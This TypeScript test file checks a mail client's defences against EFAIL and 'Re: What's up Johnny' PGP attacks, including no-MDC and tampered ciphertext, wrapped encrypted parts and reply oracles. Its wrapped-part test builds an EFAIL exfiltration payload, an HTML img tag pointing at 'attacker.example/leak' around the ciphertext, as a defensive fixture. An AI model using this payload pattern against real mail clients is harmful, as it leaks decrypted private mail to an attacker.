/**
 * Decryption attacks and bad input, built with gpg and delivered into the real Dovecot, opened
 * through the services: EFAIL (Poddebniak et al., USENIX Security 2018) — no MDC, tampered MDC,
 * encrypted parts inside attacker MIME; "Re: What's up Johnny" (Müller et al., 2019) — inline
 * blocks after ordinary text and reply-based decryption oracles; wrong passphrase, missing
 * secret key, truncated and bit-flipped ciphertext, inline PGP, a 25 MB encrypted attachment.
 * Each asserts the outcome the person must see and that no plaintext leaks.
 */
import { createHash, randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { MessageView } from '../../shared/domain.js';
import { CRLF, encryptedEntity, flipArmoredBit, mailHeaders, message, multipart, textEntity, truncateArmored } from '../support/fixtures/pgp-attack-mail.js';
import { createReadingWorld, GPG_PASS, subject, type ReadingWorld } from '../support/reading-harness.js';

let w: ReadingWorld;
const PARTNER = 'Kumppani <kumppani@kela.example>';
const SECRET = 'Asiakkaan salainen diagnoosi F32.1';
const innerText = (body: string) => textEntity(body);

beforeAll(async () => {
  w = await createReadingWorld();
}, 120_000);
afterAll(async () => w?.t.close());

function expectNothingShown(view: MessageView) {
  expect(view.text).toBeUndefined();
  expect(view.html).toBeUndefined();
  expect(view.attachments).toEqual([]);
  expect(JSON.stringify(view)).not.toContain('salainen diagnoosi');
}

const pgpMimeMessage = (s: string, ciphertext: string, from = PARTNER) => message(mailHeaders(from, w.personAddress, s), encryptedEntity(ciphertext));

describe('EFAIL: integrity', () => {
  it('ciphertext without integrity protection (no MDC) is refused and shows nothing', async () => {
    const s = subject('Ei MDC');
    const { stdout, stderr } = await w.gpg.run(
      ['--armor', '--rfc2440', '--cipher-algo', 'AES256', '--no-force-mdc', '--encrypt', '--recipient', w.personFpr],
      innerText(SECRET),
    );
    expect(stderr).toMatch(/without integrity protection/);
    const view = await w.deliverAndOpen(pgpMimeMessage(s, stdout.toString()), s);
    expect(view.crypto?.decryption).toBe('failed');
    expectNothingShown(view);
  });

  it('a tampered MDC (last byte of the protected packet flipped) fails closed', async () => {
    const s = subject('MDC muutettu');
    const view = await w.deliverAndOpen(
      pgpMimeMessage(s, flipArmoredBit(await w.encrypt(innerText(SECRET), w.personFpr, { extra: ['--compress-algo', 'none'] }), -1)),
      s,
    );
    expect(view.crypto?.decryption).toBe('failed');
    expectNothingShown(view);
  });

  it('a bit flipped in the middle of the ciphertext fails closed', async () => {
    const s = subject('Bitti');
    const armored = await w.encrypt(innerText(`${SECRET}\n${'täytettä '.repeat(200)}`), w.personFpr, {
      signer: w.partnerFpr,
      extra: ['--compress-algo', 'none'],
    });
    const view = await w.deliverAndOpen(pgpMimeMessage(s, flipArmoredBit(armored, 300)), s);
    expect(view.crypto?.decryption).toBe('failed');
    expect(view.crypto?.signature.status).toBe('none');
    expectNothingShown(view);
  });

  it('truncated ciphertext fails closed', async () => {
    const s = subject('Katkaistu');
    const armored = await w.encrypt(innerText(`${SECRET}\n${'täytettä '.repeat(200)}`), w.personFpr, { extra: ['--compress-algo', 'none'] });
    const view = await w.deliverAndOpen(pgpMimeMessage(s, truncateArmored(armored, 400)), s);
    expect(view.crypto?.decryption).toBe('failed');
    expectNothingShown(view);
  });
});

describe('keys the person does not have or cannot use', () => {
  it('missing secret key: names the key IDs needed, shows nothing', async () => {
    const s = subject('Ei avainta');
    const view = await w.deliverAndOpen(pgpMimeMessage(s, await w.encrypt(innerText(SECRET), w.strangerFpr)), s);
    expect(view.crypto?.decryption).toBe('no-key');
    expect(view.crypto!.recipientKeyIds).toEqual([expect.stringMatching(/^[0-9A-F]{16}$/)]);
    expectNothingShown(view);
  });

  it('a held key locked by its passphrase says "locked"; a wrong passphrase keeps it locked and shows nothing; the right one opens it', async () => {
    const s = subject('Lukittu');
    const raw = pgpMimeMessage(s, await w.encrypt(innerText(SECRET), w.partnerFpr));
    const first = await w.deliverAndOpen(raw, s);
    expect(first.crypto?.decryption).toBe('locked');
    expectNothingShown(first);
    const wrong = await w.t.call('crypto:keys:unlock', { fingerprint: w.partnerFpr, passphrase: 'väärä salalause' });
    expect(wrong).toMatchObject({ ok: false, error: { code: 'WRONG_PASSPHRASE' } });
    const again = await w.t.value('mail:message:open', { mailbox: { accountId: w.accountId, path: 'INBOX' }, uid: first.uid });
    expect(again.crypto?.decryption).toBe('locked');
    expectNothingShown(again);
    await w.t.value('crypto:keys:unlock', { fingerprint: w.partnerFpr, passphrase: GPG_PASS });
    try {
      const opened = await w.t.value('mail:message:open', { mailbox: { accountId: w.accountId, path: 'INBOX' }, uid: first.uid });
      expect(opened.crypto?.decryption).toBe('decrypted');
      expect(opened.text).toContain(SECRET);
    } finally {
      await w.t.value('crypto:keys:lock', {});
    }
  });
});

describe('inline PGP', () => {
  it('a whole text body that is one encrypted, signed block is decrypted and verified as the message', async () => {
    const s = subject('Inline salattu');
    const armored = await w.encrypt('Inline-viestin sisältö.', w.personFpr, { signer: w.partnerFpr });
    const view = await w.deliverAndOpen(message(mailHeaders(PARTNER, w.personAddress, s), textEntity(armored.replace(/\n/g, CRLF))), s);
    expect(view.crypto).toMatchObject({
      decryption: 'decrypted',
      inline: true,
      protectedSubject: false,
      signature: { status: 'good', fingerprint: w.partnerFpr },
    });
    expect(view.text).toBe('Inline-viestin sisältö.');
    expect(view.encrypted).toBe(true);
  });

  it('a whole text body that is one cleartext-signed block: good from the From address, mismatch from another', async () => {
    const signed = (await w.gpg.run(['--passphrase', GPG_PASS, '--clearsign', '--local-user', w.partnerFpr], 'Tapaaminen siirtyy torstaille.')).stdout
      .toString()
      .replace(/\n/g, CRLF);
    const s1 = subject('Clearsign');
    const good = await w.deliverAndOpen(message(mailHeaders(PARTNER, w.personAddress, s1), textEntity(signed)), s1);
    expect(good.crypto).toMatchObject({ decryption: 'not-encrypted', inline: true, signature: { status: 'good', fingerprint: w.partnerFpr } });
    expect(good.text?.trim()).toBe('Tapaaminen siirtyy torstaille.');
    const s2 = subject('Clearsign väärä');
    const spoofed = await w.deliverAndOpen(message(mailHeaders('Johtaja <johtaja@kunta.example>', w.personAddress, s2), textEntity(signed)), s2);
    expect(spoofed.crypto?.signature.status).toBe('mismatch');
  });

  it('an encrypted block after ordinary text is not decrypted, and is marked as unopened', async () => {
    const s = subject('Inline tekstin jälkeen');
    const armored = await w.encrypt(SECRET, w.personFpr);
    const view = await w.deliverAndOpen(
      message(
        mailHeaders('Hyökkääjä <attacker@example.net>', w.personAddress, s),
        textEntity(`Hei, mitä kuuluu?${CRLF}${CRLF}${armored.replace(/\n/g, CRLF)}`),
      ),
      s,
    );
    expect(view.crypto).toBeUndefined();
    expect(view.unopened).toEqual([{ partId: '1', kind: 'inline-encrypted' }]);
    expect(view.text).toContain('Hei, mitä kuuluu?');
    expect(JSON.stringify(view)).not.toContain('salainen diagnoosi');
  });

  it('a whole-body inline block without integrity protection (no MDC) is refused and shows nothing', async () => {
    const s = subject('Inline ei MDC');
    const { stdout } = await w.gpg.run(['--armor', '--rfc2440', '--cipher-algo', 'AES256', '--no-force-mdc', '--encrypt', '--recipient', w.personFpr], SECRET);
    const view = await w.deliverAndOpen(message(mailHeaders(PARTNER, w.personAddress, s), textEntity(stdout.toString().replace(/\n/g, CRLF))), s);
    expect(view.crypto).toMatchObject({ decryption: 'failed', inline: true });
    expect(view.text).toBeUndefined();
    expect(JSON.stringify(view)).not.toContain('salainen diagnoosi');
  });

  it('a cleartext-signed block after attacker text is never verified: no signature state, marked as unopened', async () => {
    const s = subject('Clearsign tekstin jälkeen');
    const signed = (await w.gpg.run(['--passphrase', GPG_PASS, '--clearsign', '--local-user', w.partnerFpr], 'Hyväksyn maksun.')).stdout
      .toString()
      .replace(/\n/g, CRLF);
    const view = await w.deliverAndOpen(
      message(mailHeaders(PARTNER, w.personAddress, s), textEntity(`Maksa tilille FI00 1234 5678.${CRLF}${CRLF}${signed}`)),
      s,
    );
    expect(view.crypto).toBeUndefined();
    expect(view.unopened).toEqual([{ partId: '1', kind: 'inline-signed' }]);
  });

  it('an encrypted block in a deeper part is not decrypted, and is marked with its part', async () => {
    const s = subject('Inline syvemmällä');
    const armored = await w.encrypt(SECRET, w.personFpr);
    const raw = message(
      mailHeaders('Hyökkääjä <attacker@example.net>', w.personAddress, s),
      multipart('mixed', [textEntity('Katso alla.'), textEntity(armored.replace(/\n/g, CRLF))]),
    );
    const view = await w.deliverAndOpen(raw, s);
    expect(view.crypto).toBeUndefined();
    expect(view.unopened).toEqual([{ partId: '2', kind: 'inline-encrypted' }]);
    expect(JSON.stringify(view)).not.toContain('salainen diagnoosi');
  });
});

describe('EFAIL and "Re: What\'s up Johnny": encrypted parts inside attacker MIME', () => {
  it('a PGP/MIME part inside attacker-built multipart/mixed is not decrypted and is marked with its part', async () => {
    const s = subject('Kääritty salattu');
    const raw = message(
      mailHeaders('Hyökkääjä <attacker@example.net>', w.personAddress, s),
      multipart('mixed', [
        textEntity('<img src="https://attacker.example/leak?', 'text/html'),
        encryptedEntity(await w.encrypt(innerText(SECRET), w.personFpr)),
        textEntity('">', 'text/html'),
      ]),
    );
    const view = await w.deliverAndOpen(raw, s);
    expect(view.crypto).toBeUndefined();
    expect(view.unopened).toEqual([{ partId: '2', kind: 'pgp-mime-encrypted' }]);
    expect(JSON.stringify(view)).not.toContain('salainen diagnoosi');
  });

  it("reply-based oracle: replying to a message that embeds the person's old ciphertext quotes none of its plaintext (nor the armor)", async () => {
    const s = subject('Re: Mitä kuuluu');
    const oldMail = await w.encrypt(innerText(SECRET), w.personFpr);
    const oldInline = await w.encrypt(SECRET, w.personFpr);
    const raw = message(
      mailHeaders('Hyökkääjä <attacker@example.net>', w.personAddress, s),
      multipart('mixed', [textEntity(`Hei! Vastaatko tähän?${CRLF}${CRLF}${oldInline.replace(/\n/g, CRLF)}`), encryptedEntity(oldMail)]),
    );
    const view = await w.deliverAndOpen(raw, s);
    expect(view.unopened).toEqual([
      { partId: '2', kind: 'pgp-mime-encrypted' },
      { partId: '1', kind: 'inline-encrypted' },
    ]);
    const reply = await w.replyText(view.uid);
    expect(reply).toContain('> Hei! Vastaatko tähän?');
    expect(reply).toContain('[salattua sisältöä ei lainattu]');
    expect(reply).not.toContain('salainen diagnoosi');
    expect(reply).not.toContain('BEGIN PGP');
  });

  it('the root-decrypted body of the message itself may be quoted', async () => {
    const s = subject('Oma salattu');
    const view = await w.deliverAndOpen(pgpMimeMessage(s, await w.encrypt(innerText('Hyvä päätös.'), w.personFpr)), s);
    expect(await w.replyText(view.uid)).toContain('> Hyvä päätös.');
  });
});

describe('a 25 MB encrypted attachment', () => {
  it('decrypts, lists the attachment as decrypted, downloads it intact, within time and memory bounds', async () => {
    const s = subject('Iso liite');
    const payload = randomBytes(25 * 1024 * 1024);
    const inner = multipart('mixed', [
      textEntity('Liitteenä asiakirjat.'),
      [
        'Content-Type: application/pdf; name="asiakirjat.pdf"',
        'Content-Disposition: attachment; filename="asiakirjat.pdf"',
        'Content-Transfer-Encoding: base64',
        '',
        payload.toString('base64').replace(/.{76}/g, `$&${CRLF}`),
      ].join(CRLF),
    ]);
    const armored = await w.encrypt(inner, w.personFpr, { signer: w.partnerFpr, extra: ['--compress-algo', 'none'] });
    let peakRss = process.memoryUsage().rss;
    const baseRss = peakRss;
    const sampler = setInterval(() => (peakRss = Math.max(peakRss, process.memoryUsage().rss)), 20);
    try {
      const started = performance.now();
      const view = await w.deliverAndOpen(pgpMimeMessage(s, armored), s);
      const openedMs = performance.now() - started;
      expect(view.crypto).toMatchObject({ decryption: 'decrypted', signature: { status: 'good' } });
      expect(view.text).toContain('Liitteenä asiakirjat.');
      expect(view.attachments).toEqual([expect.objectContaining({ partId: '2.2', filename: 'asiakirjat.pdf', mimeType: 'application/pdf', decrypted: true })]);
      const downloadStarted = performance.now();
      const file = await w.t.value('mail:attachment:get', { mailbox: { accountId: w.accountId, path: 'INBOX' }, uid: view.uid, partId: '2.2' });
      const downloadMs = performance.now() - downloadStarted;
      const digest = (b: Buffer) => createHash('sha256').update(b).digest('hex');
      expect(digest(Buffer.from(file.contentBase64, 'base64'))).toBe(digest(payload));
      // Figures for the report; bounds generous for a 2-core machine shared with other jobs.
      console.info(
        `25 MB encrypted attachment: deliver+open ${Math.round(openedMs)} ms, download ${Math.round(downloadMs)} ms, RSS +${Math.round((peakRss - baseRss) / 2 ** 20)} MiB (peak ${Math.round(peakRss / 2 ** 20)} MiB)`,
      );
      expect(openedMs).toBeLessThan(60_000);
      expect(peakRss - baseRss).toBeLessThan(1536 * 2 ** 20);
    } finally {
      clearInterval(sampler);
    }
  }, 240_000);
});
